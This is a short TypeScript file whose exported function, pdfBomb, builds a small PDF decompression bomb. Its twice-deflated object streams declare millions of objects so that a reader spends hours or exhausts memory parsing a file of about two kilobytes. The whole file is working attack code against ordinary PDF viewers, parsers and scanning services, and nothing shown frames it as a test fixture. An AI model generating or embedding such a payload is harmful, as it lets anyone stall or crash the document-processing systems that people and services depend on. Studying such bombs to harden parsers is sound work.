import { deflateSync } from 'node:zlib'

/** Numbers as a structure stream holds them, compressed twice: megabytes in a thousand bytes. */
function twiceDeflated(megabytes: number): Buffer {
  return deflateSync(deflateSync(Buffer.alloc(megabytes * 1024 * 1024, '1 '), { level: 9 }), { level: 9 })
}

/** A PDF of about two kilobytes whose object streams hold millions of objects: hours of work for a patient reader. */
export function pdfBomb(megabytes = 120): Uint8Array {
  const parts: Buffer[] = [Buffer.from('%PDF-1.5\n')]
  const at = () => parts.reduce((sum, { length }) => sum + length, 0)
  const offsets = new Map<number, number>()
  const object = (number: number, head: string, data?: Uint8Array) => {
    offsets.set(number, at())
    parts.push(Buffer.from(`${number} 0 obj\n${head}`))
    if (data) parts.push(Buffer.from('\nstream\n'), Buffer.from(data), Buffer.from('\nendstream'))
    parts.push(Buffer.from('\nendobj\n'))
  }
  const packed = twiceDeflated(megabytes)
  const count = megabytes * 256 * 1024
  object(1, '<</Type/Catalog/Pages 2 0 R>>')
  for (const number of [10, 11]) {
    object(
      number,
      `<</Type/ObjStm/N ${count}/First ${count * 4}/Filter[/FlateDecode/FlateDecode]/Length ${packed.length}>>`,
      packed,
    )
  }
  const xref = at()
  const place = (number: number) => {
    const offset = offsets.get(number) ?? 0
    return [1, (offset >>> 24) & 255, (offset >>> 16) & 255, (offset >>> 8) & 255, offset & 255, 0]
  }
  const inStream = (stream: number) => [2, 0, 0, 0, stream, 0]
  const rows = [place(1), inStream(10), inStream(11), place(10), place(11)].flat()
  object(
    12,
    `<</Type/XRef/Size 20/W[1 4 1]/Index[1 3 10 2]/Root 1 0 R/Length ${rows.length}>>`,
    new Uint8Array(rows),
  )
  parts.push(Buffer.from(`startxref\n${xref}\n%%EOF\n`))
  return Buffer.concat(parts)
}
